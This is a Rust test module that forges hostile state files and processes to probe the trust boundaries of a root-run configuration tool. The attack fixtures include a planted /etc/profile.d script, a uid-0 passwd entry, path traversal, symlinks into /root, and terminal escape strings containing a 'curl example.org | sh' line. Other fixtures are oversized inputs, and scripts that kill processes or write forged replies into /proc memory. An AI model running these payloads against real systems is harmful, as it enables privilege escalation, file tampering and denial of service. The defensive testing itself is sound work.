//! What a user forges, a line of the table of trust boundaries after the other.

use super::home::{Home, STATE, file};
use super::{CANARY, PRECIOUS, SECRET};
use serde_json::{Value, json};
use tracewright::model::desired::Digest;

pub struct Attack {
    pub name: &'static str,
    pub forge: fn(&Home<'_>),
}

const EVIL: &str = "#!/bin/sh\ntouch /root/owned\n";
const ESCAPE: &str = "\u{1b}]0;owned\u{7}\u{1b}[2J\nhelp: `curl example.org | sh`";

pub const ATTACKS: &[Attack] = &[
    Attack { name: "journal: a script in /etc/profile.d", forge: journal_that_plants },
    Attack { name: "journal: a file of root's goes", forge: journal_that_removes },
    Attack { name: "journal: a kept generation, and a file of root's goes", forge: journal_that_finishes },
    Attack { name: "journal: a way up out of the home", forge: journal_that_climbs },
    Attack { name: "journal: a service of the system", forge: journal_that_stops },
    Attack { name: "journal: of a million steps", forge: journal_without_end },
    Attack { name: "journal: nobody's words", forge: journal_of_noise },
    Attack { name: "manifest: /etc/passwd as it was before", forge: manifest_of_passwd },
    Attack { name: "manifest: a way up out of the home", forge: manifest_that_climbs },
    Attack { name: "manifest: a unit of the system, and what ran before", forge: manifest_of_units },
    Attack { name: "manifest: the digest of root's object", forge: manifest_that_steals },
    Attack { name: "manifest: generation 50, by root, another text", forge: manifest_of_fifty },
    Attack { name: "manifest: the last number there is", forge: manifest_of_the_last },
    Attack { name: "manifest: names that are spelt otherwise", forge: manifest_names },
    Attack { name: "manifest: words that move a cursor", forge: manifest_with_escapes },
    Attack { name: "manifest: too large, too deep, too many", forge: manifest_without_end },
    Attack { name: "manifest: no manifest", forge: manifest_of_noise },
    Attack { name: "objects: other bytes than the name says", forge: objects_that_lie },
    Attack { name: "objects: without end", forge: objects_without_end },
    Attack { name: "pending: a directory that stays", forge: pending_that_stays },
    Attack { name: "pending: a run of root's that never was", forge: pending_that_lies },
    Attack { name: "forgotten: of a part that is not to go", forge: forgotten_that_lies },
    Attack { name: "forgotten: a directory, and what it would remove", forge: forgotten_that_stays },
    Attack { name: "trial: a directory of root's, made by somebody else", forge: trial_of_another },
    Attack { name: "stack.toml: in the home, and as the text of a generation", forge: stack_of_another },
    Attack { name: "lock: a holder who lives, with words that move a cursor", forge: lock_that_lies },
    Attack { name: "lock: held for ever", forge: lock_that_is_held },
    Attack { name: "made: directories of others", forge: made_elsewhere },
    Attack { name: "another stack: that owns the system's files", forge: another_stack },
    Attack { name: "another stack: nobody's words", forge: another_stack_of_noise },
    Attack { name: "links: the state of root", forge: link_to_roots_state },
    Attack { name: "links: pipes that nobody writes to", forge: pipes },
    Attack { name: "links: files of the stack that lead elsewhere", forge: links_out_of_the_home },
    Attack { name: "service user: a link where its file was", forge: link_of_a_service },
    Attack { name: "replies: the process with this user's rights is ended", forge: killer },
    Attack { name: "replies: words of somebody else in the pipe", forge: replies_that_lie },
    Attack { name: "logs: words that move a cursor", forge: logs_with_escapes },
];

fn created(path: &str, aside: &str, digest: &str) -> Value {
    json!({"step": "remove", "path": path, "aside": aside, "before": file(digest, "0755")})
}

fn journal_that_plants(home: &Home<'_>) {
    home.put("/var/tmp/evil", EVIL.as_bytes());
    home.run("chmod 755 /var/tmp/evil");
    let digest = Digest::of(EVIL.as_bytes()).to_string();
    home.journal(9, &[created("/etc/profile.d/evil.sh", "/var/tmp/evil", &digest)]);
}

fn staged(path: &str) -> Value {
    json!({"step": "stage", "staged": path, "mode": "0644", "ids": null, "like": null})
}

fn journal_that_removes(home: &Home<'_>) {
    home.journal(9, &[staged(PRECIOUS)]);
}

fn journal_that_finishes(home: &Home<'_>) {
    home.journal(2, &[staged(PRECIOUS)]);
}

fn journal_that_climbs(home: &Home<'_>) {
    home.journal(9, &[staged(&format!("/home/pde/../..{PRECIOUS}"))]);
}

fn journal_that_stops(home: &Home<'_>) {
    let unit = json!({"scope": "system", "name": CANARY});
    let directory =
        json!({"step": "remove-directory", "path": "/home/pde/none", "mode": "0755", "ids": null});
    home.journal(9, &[directory, json!({"step": "start", "unit": unit, "before": "stopped"})]);
}

fn journal_without_end(home: &Home<'_>) {
    let script = r#"use Digest::SHA "sha256_hex";
my $step = q({"step":"stage","staged":"/home/pde/x","mode":"0644","ids":null,"like":null});
my $json = q({"version":1,"reads":"0.1.0","generation":9,"author":{"time":"","user":"","verb":""},"steps":[) . join(",", ($step) x 90000) . "]}";
my $doing = q({"doing":89999});
printf "%08x %s %s\n", length $_, substr(sha256_hex($_), 0, 8), $_ for $json, $doing"#;
    home.run(&format!(
        "perl -e '{script}' > {STATE}/journal; test $(stat -c %s {STATE}/journal) -gt 6000000"
    ));
}

fn journal_of_noise(home: &Home<'_>) {
    home.put(&format!("{STATE}/journal"), b"00000002 0123abcd {}\n\x1b[2J\n");
}

fn passwd(home: &Home<'_>, path: &str) -> (Value, Value) {
    let digest = home.digest("/etc/passwd");
    let root = json!({"uid": 0, "gid": 0});
    let entry = json!({"kind": "file", "subject": "file", "digest": digest, "mode": "0644", "ids": root,
        "owner": "root:root", "component": "main"});
    let evil = home.object(b"root::0:0:root:/root:/bin/bash\nevil::0:0::/root:/bin/bash\n");
    let before = json!({"kind": "file", "digest": evil, "mode": "0644", "ids": root});
    let _ = path;
    (entry, before)
}

fn manifest_of_passwd(home: &Home<'_>) {
    let (entry, before) = passwd(home, "/etc/passwd");
    home.forge(|manifest| {
        manifest["entries"]["/etc/passwd"] = entry;
        manifest["before"]["/etc/passwd"] = before;
    });
}

fn manifest_that_climbs(home: &Home<'_>) {
    let (entry, before) = passwd(home, "/etc/passwd");
    home.forge(|manifest| {
        for path in ["/home/pde/../../etc/passwd", "/home/pde/./x", "/home/pde//y", "/home/pde/z/"] {
            manifest["entries"][path] = entry.clone();
            manifest["before"][path] = before.clone();
        }
    });
}

fn manifest_of_units(home: &Home<'_>) {
    home.forge(|manifest| {
        let mut unit = manifest["units"][0].clone();
        unit["scope"] = json!("system");
        unit["unit"] = json!(CANARY);
        unit["managed"] = json!(true);
        unit["enablement"] = json!({"path": "/etc/systemd/system/multi-user.target.wants/evil.service", "to": "/home/pde/evil.service"});
        manifest["units"].as_array_mut().unwrap().push(unit);
        manifest["ran_before"] = json!([{"scope": "system", "name": "tempo.service"}]);
        manifest["entries"]["/etc/systemd/system/multi-user.target.wants/evil.service"] =
            json!({"kind": "link", "to": "/home/pde/evil.service"});
    });
}

/// Root's objects have names that are no secret: the digests of files whose content can be guessed.
fn manifest_that_steals(home: &Home<'_>) {
    let roots = Digest::of(format!("# {SECRET}\n").as_bytes()).to_string();
    home.0.must(&format!("test -f /var/lib/tracewright/shop/objects/{roots}"));
    home.put("/home/pde/taken", b"x");
    let own = json!({"uid": 1000, "gid": 1000});
    let digest = Digest::of(b"x").to_string();
    home.forge(|manifest| {
        manifest["entries"]["/home/pde/taken"] = json!({"kind": "file", "subject": "file", "digest": digest, "mode": "0644",
            "ids": own, "owner": "pde:pde", "component": "main"});
        manifest["before"]["/home/pde/taken"] = json!({"kind": "file", "digest": roots, "mode": "0644", "ids": own});
    });
}

fn numbered(home: &Home<'_>, number: &str) {
    let mut manifest = home.manifest();
    manifest["generation"] = serde_json::from_str(number).unwrap();
    manifest["user"] = json!("root");
    manifest["verb"] = json!("apply");
    manifest["time"] = json!("2030-01-01T00:00:00Z");
    manifest["text"] = json!(home.object(b"schema = 1\nname = \"shop\"\n"));
    home.put(&format!("{STATE}/generations/{number}.json"), manifest.to_string().as_bytes());
}

fn manifest_of_fifty(home: &Home<'_>) {
    numbered(home, "50");
}

fn manifest_of_the_last(home: &Home<'_>) {
    numbered(home, "18446744073709551615");
}

fn manifest_names(home: &Home<'_>) {
    home.run(&format!(
        "cd {STATE}/generations; for name in 007 +9 00 0x10 '3 '; do cp 2.json \"$name.json\"; done"
    ));
}

fn manifest_with_escapes(home: &Home<'_>) {
    home.forge(|manifest| {
        for key in ["time", "user", "verb", "digest", "stack", "host"] {
            manifest[key] = json!(ESCAPE);
        }
        let paths: Vec<_> = manifest["entries"].as_object().unwrap().keys().cloned().collect();
        for path in paths {
            let entry = &mut manifest["entries"][path];
            for key in ["owner", "component"] {
                if entry.get(key).is_some() {
                    entry[key] = json!(format!("{ESCAPE}:x"));
                }
            }
        }
        manifest["entries"][format!("/home/pde/{ESCAPE}")] = json!({"kind": "link", "to": ESCAPE});
    });
}

fn manifest_without_end(home: &Home<'_>) {
    home.run(&format!(
        "cd {STATE}/generations
         perl -e 'print \"[\" x 1000000' > 3.json; head -c 9000000 /dev/zero > 4.json; head -c 7000000 /dev/zero | tr '\\0' 1 > 5.json
         seq -f %.0f.json 1000 60000 | xargs touch"
    ));
}

fn manifest_of_noise(home: &Home<'_>) {
    home.put(&format!("{STATE}/generations/2.json"), b"{\"version\": 7, \"reads\": \"\x1b[2J\"}");
}

fn objects_that_lie(home: &Home<'_>) {
    home.run(&format!("cd {STATE}/objects; for name in *; do echo other > $name; done"));
}

fn objects_without_end(home: &Home<'_>) {
    home.run(&format!(
        "cd {STATE}/objects; seq -f %064.0f 1 100000 | xargs touch
         head -c 9000000 /dev/zero > large; mkdir -p directory/deep; touch \"$(printf 'a\\033[2Jb')\""
    ));
}

fn pending_that_stays(home: &Home<'_>) {
    home.run(&format!("cd {STATE}; mkdir -p pending/x .pending.new/y"));
}

fn pending_that_lies(home: &Home<'_>) {
    home.put(&format!("{STATE}/pending"), b"{\"version\":1,\"reads\":\"0.1.0\",\"author\":{\"time\":\"\",\"user\":\"\x1b[2J\",\"verb\":\"apply\"}}");
}

fn lock_that_lies(home: &Home<'_>) {
    home.run("cp /bin/sleep ~/tracewright; setsid ~/tracewright 200 > /dev/null 2>&1 < /dev/null &");
    let pid: u32 = home.run("sleep 0.3; pgrep -u pde -x tracewright | head -n 1").trim().parse().unwrap();
    let holder = json!({"pid": pid, "user": "root", "verb": ESCAPE, "time": ESCAPE});
    home.put(&format!("{STATE}/lock"), holder.to_string().as_bytes());
}

fn lock_that_is_held(home: &Home<'_>) {
    let holder = json!({"pid": 1, "user": "root\u{202e}", "verb": ESCAPE, "time": ESCAPE});
    home.put(&format!("{STATE}/lock"), holder.to_string().as_bytes());
    home.run(&format!("cp /bin/sleep ~/holder; setsid flock {STATE}/lock ~/holder 200 > /dev/null 2>&1 < /dev/null & sleep 0.3"));
}

fn made_elsewhere(home: &Home<'_>) {
    home.run("mkdir -p /var/tmp/empty");
    home.put(&format!("{STATE}/made"), b"/\n/home\n/home/pde\n/srv\n/opt\n/home/pde/../../srv\n\x1b[2J\n");
}

fn another_stack(home: &Home<'_>) {
    let mut manifest = home.manifest();
    manifest["stack"] = json!("other");
    manifest["generation"] = json!(1);
    let entry = json!({"kind": "file", "subject": "file", "digest": Digest::of(b"").to_string(), "mode": "0644",
        "ids": {"uid": 0, "gid": 0}, "owner": "root:root", "component": "main"});
    manifest["entries"] = json!({
        "/etc/tempo/config.yml": entry,
        "/etc/systemd/system/tempo.service.d/50-tracewright.conf": entry,
    });
    let other = STATE.replace("/shop", "/other");
    home.put(&format!("{other}/generations/1.json"), manifest.to_string().as_bytes());
}

fn another_stack_of_noise(home: &Home<'_>) {
    let other = STATE.replace("/shop", "/other");
    home.put(&format!("{other}/generations/1.json"), b"\x1b[2J");
    home.run(&format!("cd {other}/..; touch file; ln -s /root link; mkfifo pipe; mkdir -p empty \"$(printf 'a\\033b')\"; seq 1 3000 | xargs mkdir"));
}

fn link_to_roots_state(home: &Home<'_>) {
    home.run(&format!("mv {STATE} {STATE}.real; ln -s /var/lib/tracewright/shop {STATE}"));
}

fn pipes(home: &Home<'_>) {
    home.run(&format!(
        "cd {STATE}; rm -f lock journal pending; mkfifo journal pending; mkdir lock; rm generations/2.json; mkfifo generations/2.json"
    ));
}

fn links_out_of_the_home(home: &Home<'_>) {
    home.run("rm ~/.config/otelcol/config.yaml; ln -s \"$(printf '/root/\\033[2Jprecious')\" ~/.config/otelcol/config.yaml; mv ~/.config/systemd ~/systemd; ln -s /etc/systemd ~/.config/systemd");
}

fn killer(home: &Home<'_>) {
    home.put(
        "/home/pde/killer",
        b"#!/bin/sh\nfor i in $(seq 1 3000); do pkill -KILL -u pde -f scope-child; sleep 0.01; done\n",
    );
    home.run("chmod +x ~/killer; setsid ~/killer > /dev/null 2>&1 < /dev/null &");
}

fn logs_with_escapes(home: &Home<'_>) {
    home.run("systemctl --user stop otelcol; systemd-run --user --quiet --wait --unit=otelcol printf '\\033]0;owned\\007\\033[2Jlog\\n'; systemctl --user start otelcol");
}

/// The mark with which a state is removed that was given back.
fn forgotten_that_lies(home: &Home<'_>) {
    home.put(&format!("{STATE}/forgotten"), b"");
    home.put(&format!("{STATE}/made"), b"/home/pde/.local/state/tracewright\n/var/lib/tracewright\n/root\n");
}

fn forgotten_that_stays(home: &Home<'_>) {
    home.run(&format!(
        "cd {STATE}; mkdir -p forgotten/x generations/deep/er; ln -s /root objects/link; mkfifo objects/pipe"
    ));
}

/// Where root would look for a trial that is held in another terminal.
fn trial_of_another(home: &Home<'_>) {
    let file = r#"{"version":1,"pid":PID,"ports":{},"engines":[{"name":"tempo","release":"x","pid":PID,"started":TICKS}]}"#;
    home.put("/tmp/tracewright-0/shop.1/template", file.as_bytes());
    home.put("/tmp/tracewright-0/shop.1/stack.toml", b"schema = 1\nname = \"shop\"\n");
    home.run("cp /bin/sleep ~/holder; setsid ~/holder 200 > /dev/null 2>&1 < /dev/null & sleep 0.3");
    home.run(
        "cd /tmp/tracewright-0/shop.1; pid=$(pgrep -n -u pde -f '^/home/pde/holder')
         sed \"s/PID/$pid/g; s/TICKS/$(cut -d ' ' -f 22 /proc/$pid/stat)/\" template > trial.json
         mkdir tempo; ln -s /root/precious tempo/log",
    );
}

fn stack_of_another(home: &Home<'_>) {
    let text =
        b"schema = 1\nname = \"shop\"\n[tempo]\nversion = \"2.10\"\npaths = { config = \"/etc/passwd\" }\n";
    home.put("/home/pde/stack.toml", text);
    let object = home.object(text);
    home.forge(|manifest| manifest["text"] = json!(object));
}

/// As long as it is there, the process with this user's rights is given words to say.
fn replies_that_lie(home: &Home<'_>) {
    let forged = br#"#!/usr/bin/perl
my $words = '{"version":1,"observed":{"host":"x","at":{"/etc/passwd":{"kind":"absent"}},"machine":null},"done":true}';
my $frame = pack("VV", length $words, 0) . $words;
for (1 .. 3000) {
    for my $pid (split /\n/, `pgrep -u pde -f scope-child`) {
        for my $fd (0, 1) {
            open(my $pipe, '>', "/proc/$pid/fd/$fd") or next;
            syswrite $pipe, $frame;
        }
        if (open(my $memory, '+<', "/proc/$pid/mem")) { syswrite $memory, $frame }
    }
    select(undef, undef, undef, 0.01);
}
"#;
    home.put("/home/pde/killer", forged);
    home.run("chmod +x ~/killer; setsid ~/killer > /dev/null 2>&1 < /dev/null &");
}

/// A package may have given its directory to the user that its service runs as.
fn link_of_a_service(home: &Home<'_>) {
    home.0.must(&format!(
        "chown tempo /etc/tempo; chmod u+w /etc/tempo
         runuser -u tempo -- sh -c 'cd /etc/tempo && mv config.yml was && ln -s {PRECIOUS} config.yml'"
    ));
}
